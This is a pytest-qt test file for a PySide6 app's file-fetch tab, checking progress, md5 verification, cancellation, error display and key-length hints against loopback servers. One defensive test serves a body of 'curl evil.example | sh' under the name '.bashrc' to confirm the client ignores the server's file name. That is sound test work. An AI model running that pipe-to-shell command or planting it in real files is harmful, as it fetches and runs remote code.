"""pytest-qt: the File fetch tab against its own built-in server, over real loopback sockets."""

from __future__ import annotations

import contextlib
import hashlib
import os
import socket
import threading

import pytest
from PySide6.QtCore import Qt

from app.main_window import MainWindow
from netcore.protocols.filehdr import encode_header, name_fields
from tests.app.support import OneReplyServer
from widgets.hexdump_view import FRAME_START_ROLE, HEX0

WAIT_S = 5.0
WAIT_MS = int(WAIT_S * 1000)


@pytest.fixture
def page(qtbot, settings, tmp_path):
    root, dest = tmp_path / "root", tmp_path / "dest"
    root.mkdir()
    dest.mkdir()
    (root / "hello.png").write_bytes(b"\x89PNG fake image")
    (root / "big.bin").write_bytes(os.urandom(8 * 1024 * 1024))
    win = MainWindow(settings)
    qtbot.addWidget(win)
    win.show()
    win.tabs.setCurrentWidget(win.files)
    page = win.files
    page.server.root.setText(str(root))
    page.server.address.set_address("127.0.0.1", 0)
    page.client.dest.setText(str(dest))
    yield page
    win.close()


def start(qtbot, page):
    qtbot.mouseClick(page.server.start_button, Qt.MouseButton.LeftButton)
    # the list is fetched on start; Fetch is enabled again once that request has finished
    qtbot.waitUntil(lambda: page.client.files.count() == 2 and page.client.runner is None, timeout=5000)


def test_fetch_with_progress_to_100_and_md5(qtbot, page, tmp_path):
    start(qtbot, page)
    assert [page.client.files.item(i).text() for i in range(2)] == ["big.bin", "hello.png"]
    page.client.name.setText("big.bin")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=15000)
    assert page.client.progress.value() == 1000
    assert "100 %" in page.client.progress_text.text()
    saved = tmp_path / "dest" / "big.bin"
    assert saved.read_bytes() == (tmp_path / "root" / "big.bin").read_bytes()
    assert "md5 verified" in page.client.verdict.text()
    assert hashlib.md5(saved.read_bytes()).hexdigest() in page.client.header.toPlainText()
    # the hexdump marks length | header | body: frames start at the length and at the body
    hexm = page.client.view.hex_model
    starts = [hexm.index(r, c).data(FRAME_START_ROLE) for r in range(3) for c in range(HEX0, HEX0 + 16)]
    assert starts.count(True) >= 1


def test_hello_finds_hello_png(qtbot, page, tmp_path):
    start(qtbot, page)
    page.client.name.setText("hello")
    qtbot.keyClick(page.client.name, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=5000)
    assert (tmp_path / "dest" / "hello.png").read_bytes() == b"\x89PNG fake image"


class PausedFileServer:
    """A file server (the course's protocol) for one fetch that sends the header and the first
    PART bytes of a BODY-byte file, then sends nothing more: a transfer that is mid-body, by
    construction, for as long as the client stays. It records how the client went away."""

    BODY = 8 * 1024 * 1024
    PART = 2 * 1024 * 1024  # two of the client's 1 MiB buffers: progress is reported

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(WAIT_S)
        self.port: int = self.listener.getsockname()[1]
        self.request = b""
        self.client_left = threading.Event()
        self.failure: BaseException | None = None
        self._thread = threading.Thread(target=self._serve, name="paused-file-server", daemon=True)

    def _serve(self) -> None:
        try:
            conn, _ = self.listener.accept()
            with conn:
                conn.settimeout(WAIT_S)
                self.request = conn.recv(4096)
                body = bytes(self.BODY)
                header = {
                    "file_name": "huge.bin",
                    "file_hex": hashlib.md5(body).hexdigest(),
                    "data_all": len(body),
                }
                conn.sendall(encode_header(header) + body[: self.PART])
                # the pause: wait for the client to go (EOF or RST), never sending the rest
                with contextlib.suppress(ConnectionResetError):
                    while conn.recv(4096):  # "q" or nothing: the cancelled client only closes
                        pass
                self.client_left.set()
        except BaseException as exc:  # the test asserts there was none
            self.failure = exc

    def __enter__(self) -> PausedFileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._thread.join(WAIT_S + 1)
        self.listener.close()
        assert not self._thread.is_alive(), "the paused file server did not finish"


def test_cancel_mid_body_leaves_nothing_and_says_cancelled(qtbot, page, tmp_path):
    """Cancel during a transfer that cannot finish by itself (the server pauses mid-body): the
    partial file is removed, nothing is saved, the connection is closed and the page says so."""
    dest = tmp_path / "dest"
    with PausedFileServer() as server:
        page.client.address.set_address("127.0.0.1", server.port)
        page.client.name.setText("huge.bin")
        qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: page.client.progress.value() > 0, timeout=WAIT_MS)  # mid-body now
        assert server.request == b"huge.bin"
        assert page.client.runner is not None and page.client.cancel_button.isEnabled()
        [partial] = os.listdir(dest)  # the body is being written to a temporary file
        assert partial.startswith(".huge.bin.") and partial.endswith(".part")
        qtbot.mouseClick(page.client.cancel_button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: page.client.runner is None, timeout=WAIT_MS)
        assert server.client_left.wait(WAIT_S), "the client did not close the connection"
    assert server.failure is None, server.failure
    assert os.listdir(dest) == []  # no file, no .part
    assert "cancelled" in page.client.state.text()
    assert "Not saved" in page.client.verdict.text()
    assert page.client.progress.value() < 1000


def test_unknown_name_and_existing_file(qtbot, page, tmp_path):
    start(qtbot, page)
    page.client.name.setText("nope")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=5000)
    assert "no file named 'nope'" in page.client.state.text()
    assert "Check the name against the server's file list." in page.client.state.text(), "the hint"
    (tmp_path / "dest" / "hello.png").write_bytes(b"mine")
    page.client.name.setText("hello.png")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=5000)
    assert "already exists" in page.client.state.text()
    assert "Choose another folder, or allow overwriting." in page.client.state.text(), "the hint"
    assert (tmp_path / "dest" / "hello.png").read_bytes() == b"mine"


MARKUP = '<h1 style="color:red">X</h1><a href="http://example.com/">link</a><img src="file:///etc/hostname">'


def fetch_from(qtbot, page, port, name):
    page.client.address.set_address("127.0.0.1", port)
    page.client.name.setText(name)
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=WAIT_MS)


def test_a_servers_error_of_markup_is_shown_as_text(qtbot, page, tmp_path):
    """A file server's error field of HTML shows as its characters in the pane's state."""
    reply = encode_header({"file_name": "holiday", "error": MARKUP, "data_all": 0})
    with OneReplyServer(reply) as server:
        fetch_from(qtbot, page, server.port, "holiday.jpg")
    state = page.client.state
    assert state.textFormat() == Qt.TextFormat.PlainText
    assert f"the server refused 'holiday.jpg': {MARKUP}" in state.text()
    assert os.listdir(tmp_path / "dest") == []


def test_the_servers_name_is_shown_not_used(qtbot, page, tmp_path):
    """Asked for holiday.jpg, a server answering .bashrc: holiday.jpg is saved and the verdict
    names .bashrc as the server's name only."""
    body = b"curl evil.example | sh\n"
    header = {**name_fields(".bashrc"), "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
    with OneReplyServer(encode_header(header) + body) as server:
        fetch_from(qtbot, page, server.port, "holiday.jpg")
    assert os.listdir(tmp_path / "dest") == ["holiday.jpg"]
    assert (tmp_path / "dest" / "holiday.jpg").read_bytes() == body
    verdict = page.client.verdict
    assert verdict.textFormat() == Qt.TextFormat.PlainText
    assert "The server calls it '.bashrc'" in verdict.text() and "holiday.jpg" in verdict.text()


def test_a_key_under_16_bytes_is_refused_with_how_to_make_one(qtbot, page):
    """Both key fields refuse 15 bytes with the hint; 16 bytes on both sides list the files."""
    how = 'python -c "import secrets; print(secrets.token_hex(16))" > key.txt'
    page.server.key.setText("k" * 15)
    qtbot.mouseClick(page.server.start_button, Qt.MouseButton.LeftButton)
    assert "15 bytes" in page.server.state.text() and how in page.server.state.text()
    assert page.server.runner is None
    page.client.key.setText("k" * 15)
    page.client.name.setText("hello.png")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    assert "15 bytes" in page.client.state.text() and how in page.client.state.text()
    page.server.key.setText("k" * 16)
    page.client.key.setText("k" * 16)
    start(qtbot, page)


def test_a_missing_files_error_header_is_shown_in_the_header_box(qtbot, page):
    """The server's refusal is a header too: the header box shows it (it stayed empty)."""
    start(qtbot, page)
    page.client.name.setText("missing.txt")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=WAIT_MS)
    shown = page.client.header.toPlainText()
    assert '"error": "no file named \'missing.txt\'"' in shown and '"data_all": 0' in shown
    assert "no file named 'missing.txt'" in page.client.state.text()


def test_the_page_says_the_server_is_hashing_instead_of_sitting_at_0(qtbot, page, monkeypatch):
    """While the server hashes a large file the progress line says so, with how far it has come;
    the server's hash goes on only once the page has shown it."""
    from netcore.engines import filefetch

    shown = threading.Event()

    class WaitsToBeShown:
        def md5(self):
            digest = hashlib.md5()

            class Digest:
                def update(self, block):
                    shown.wait(WAIT_S)
                    digest.update(block)

                def hexdigest(self):
                    return digest.hexdigest()

            return Digest()

    monkeypatch.setattr(filefetch, "hashlib", WaitsToBeShown())
    start(qtbot, page)
    page.client.name.setText("big.bin")
    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
    try:
        qtbot.waitUntil(lambda: "hashing" in page.client.progress_text.text(), timeout=WAIT_MS)
        assert page.client.progress_text.text() == "the server is hashing 'big.bin': 0 % of 8,388,608 bytes"
    finally:
        shown.set()
    qtbot.waitUntil(lambda: page.client.runner is None, timeout=WAIT_MS)
    assert "md5 verified" in page.client.verdict.text()
